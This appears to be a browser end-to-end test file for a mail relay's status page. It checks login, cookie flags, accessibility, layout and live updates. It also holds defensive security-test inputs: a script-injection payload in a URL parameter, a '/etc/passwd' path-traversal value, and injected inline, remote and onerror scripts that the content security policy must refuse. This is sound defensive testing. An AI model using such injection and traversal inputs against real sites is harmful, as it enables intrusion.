/** The status page in a real browser: a real relay, real sessions of mail, Debian's Chromium. One login for most of it. */
import type { Browser, BrowserContextOptions, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { answerTo } from "../end-to-end/scene.ts";
import { complaintsOf, look, startBrowser } from "../fakes/browser.ts";
import { missing } from "../fakes/need.ts";
import { beHostile, hostileSite, places, sign } from "./hostile.ts";
import { password, startSite, token, user } from "./site.ts";
import type { Site } from "./site.ts";

/** Every page, as somebody may come to it; those of single messages are added when there are some. */
const paths = [
  "/",
  "/alerts",
  "/list",
  "/journal",
  "/explain?address=vera@kontor.example",
  "/observe",
  "/checks",
  "/hops",
  "/lookups",
  "/difference?older=1",
];
/** Such as show little but what somebody asked for. */
const others = [
  "/explain?address=%3Cscript%3Ewindow.hacked=1%3C/script%3E",
  "/difference?older=/etc/passwd",
  "/nothing",
];

/** What can be reached by the keyboard, in the order of the page. */
const reachable = `[...document.querySelectorAll("a[href], button, input, select, summary, [tabindex='0']")].filter(
  (one) => one.checkVisibility() && one.type !== "hidden" && one.closest("details:not([open]) > :not(summary)") === null)`;

/** The focus as a person sees it: which one of those it is, and whether it is marked and in sight. */
const focused = `(() => {
  const one = document.activeElement;
  const style = getComputedStyle(one);
  const { left, top, bottom, right } = one.getBoundingClientRect();
  const isMarked = style.outlineStyle !== "none" && parseFloat(style.outlineWidth) >= 2;
  const isSeen = right > 0 && bottom > 0 && left < innerWidth && top < innerHeight;
  return { at: ${reachable}.indexOf(one), isMarked, isSeen, is: one.outerHTML.slice(0, 100) };
})()`;

/** As if something had not been escaped. Gives what the policy refused. */
const inject = `(async () => {
  const names = [];
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => names.push(effectiveDirective));
  const [inline, far, box] = ["script", "script", "div"].map((name) => document.createElement(name));
  inline.textContent = "window.hacked = 1";
  far.src = "https://192.0.2.1/x.js";
  box.innerHTML = '<img src="data:," onerror="window.hacked = 2"><p style="color: red">x</p><iframe src="/"></iframe>';
  document.body.append(inline, far, box);
  await fetch("https://192.0.2.1/").catch(() => undefined);
  await new Promise((resolve) => setTimeout(resolve, 200));
  return [...new Set(names)].toSorted();
})()`;
const refusals = ["connect-src", "frame-src", "img-src", "script-src-attr", "script-src-elem", "style-src-attr"];

describe.skipIf(missing("chromium"))("the status page in a browser", { timeout: 120_000 }, () => {
  let site: Site;
  let browser: Browser;
  /** Of somebody who has logged in. */
  let inside: BrowserContextOptions;
  beforeAll(async () => {
    [site, browser] = await Promise.all([startSite(hostileSite), startBrowser()]);
    await beHostile(site.port);
  }, 120_000);
  afterAll(async () => {
    await browser?.close();
    await site?.close();
  });

  const logIn = async (page: Page): Promise<void> => {
    await page.goto(`${site.url}/`);
    await page.getByLabel("Account").fill(user);
    await page.getByLabel("Password").fill(password);
    await page.getByRole("button", { name: "Log in", exact: true }).click();
    await page.getByRole("heading", { level: 1, name: "Overview" }).waitFor();
  };

  it("opens by an account, without scripts too, and closes by logging out", async () => {
    await look(browser, { javaScriptEnabled: false }, async (page, context) => {
      await logIn(page);
      const [cookie] = await context.cookies();
      expect(cookie).toMatchObject({ httpOnly: true, sameSite: "Strict" });
      await page.getByRole("button", { name: "Log out" }).click();
      await page.getByRole("heading", { name: "Log in" }).waitFor();
      await page.goto(`${site.url}/`);
      expect(new URL(page.url()).pathname).toBe("/login");
    });
  });

  it("opens by a token, and says so where a password is wrong", async () => {
    await look(browser, { bypassCSP: true }, async (page, context) => {
      await page.goto(`${site.url}/login`);
      expect(await complaintsOf(page)).toEqual([]);
      await page.getByLabel("Account").fill(user);
      await page.getByLabel("Password").fill("wrong");
      await page.getByRole("button", { name: "Log in", exact: true }).click();
      await page.getByRole("alert").waitFor();
      await page.getByLabel("Token").fill(token);
      await page.getByRole("button", { name: "Log in by token" }).click();
      await page.getByRole("heading", { name: "Overview" }).waitFor();
      inside = { storageState: await context.storageState() };
    });
  });

  it("runs nothing that strangers wrote, has nothing that axe complains of, and fits into 360 pixels", async () => {
    // Without the policy, so that escaping alone must do.
    await look(browser, { ...inside, bypassCSP: true, reducedMotion: "reduce" }, async (page) => {
      await expect
        .poll(async () => (await page.goto(`${site.url}/journal`), await page.getByText(sign("login")).count()), {
          timeout: 20_000,
        })
        .toBeGreaterThan(0);
      const messages = await page
        .locator("main a[href^='/message']")
        .evaluateAll((links) => [...new Set(links.map((link) => link.getAttribute("href") ?? ""))]);
      let seen = "";
      for (const path of [...paths, ...messages, ...others]) {
        await page.setViewportSize({ width: 1280, height: 800 });
        await page.emulateMedia({ colorScheme: "light" });
        await page.goto(site.url + path);
        if (![...messages.slice(1), ...others].includes(path)) {
          await page.evaluate("document.querySelectorAll('details').forEach((one) => (one.open = true))");
          expect(await complaintsOf(page), path).toEqual([]);
          await page.emulateMedia({ colorScheme: "dark" });
          expect(await complaintsOf(page, "color-contrast"), path).toEqual([]);
        }
        await page.setViewportSize({ width: 360, height: 760 });
        expect(await page.evaluate("document.documentElement.scrollWidth"), path).toBeLessThanOrEqual(360);
        expect(await page.evaluate("window.hacked"), path).toBeUndefined();
        expect(await page.locator("main :is(img, script, b, i, svg[onload])").count(), path).toBe(0);
        seen += await page.locator("main").innerText();
      }
      for (const place of places) {
        expect(seen, place).toContain(sign(place));
      }
    });
  });

  it("would run nothing even if it were not escaped", async () => {
    await look(browser, inside, async (page) => {
      await page.goto(`${site.url}/journal`);
      const refused = await page.evaluate(inject);
      expect(refused).toEqual(refusals);
      expect(await page.evaluate("window.hacked")).toBeUndefined();
    });
  });

  it("renews what changes, keeps the focus, and says when it cannot", async () => {
    await look(browser, inside, async (page, context) => {
      await page.clock.install();
      await page.goto(site.url);
      const connections = page.locator(".card", { hasText: "Connections" }).locator(".figure");
      const before = Number(await connections.innerText());
      await page.getByText("Figures").first().click();
      await page.getByRole("link", { name: "Show the last hour" }).focus();
      const charts = await page.locator("[data-live=charts]").elementHandle();
      await answerTo(site.port, "nobody@kontor.example");
      await expect
        .poll(async () => (await page.clock.fastForward(15_000), Number(await connections.innerText())), {
          timeout: 20_000,
        })
        .toBe(before + 1);
      expect(await page.evaluate("document.activeElement.textContent")).toBe("Show the last hour");
      expect(await charts?.evaluate((one: { isConnected: boolean }) => one.isConnected)).toBe(false);
      expect(await page.locator("details[open]").count()).toBe(1);
      await context.clearCookies();
      await page.clock.fastForward(15_000);
      await page.getByText("not renewed: the relay does not answer, or the login is over").waitFor();
      expect(Number(await connections.innerText())).toBe(before + 1);
    });
  });

  it("is walked through by the keyboard in its order, every stop in sight and marked", async () => {
    await look(browser, { ...inside, viewport: { width: 900, height: 600 } }, async (page) => {
      for (const path of ["/", "/journal"]) {
        await page.goto(site.url + path);
        const count = await page.evaluate<number>(`${reachable}.length`);
        expect(count).toBeGreaterThan(12);
        for (let i = 0; i < count; i++) {
          await page.keyboard.press("Tab");
          expect(await page.evaluate(focused), path).toMatchObject({ at: i, isMarked: true, isSeen: true });
        }
        await page.keyboard.press("Tab");
        expect(
          await page.evaluate(
            `document.activeElement === document.body || ${reachable}.indexOf(document.activeElement) <= 0`,
          ),
        ).toBe(true);
      }
      await page.goto(site.url);
      await page.keyboard.press("Tab");
      await page.keyboard.press("Enter");
      expect(await page.evaluate("document.activeElement.id")).toBe("main");
      await page.keyboard.press("Tab");
      expect(await page.evaluate("document.querySelector('main').contains(document.activeElement)")).toBe(true);
    });
  });
});
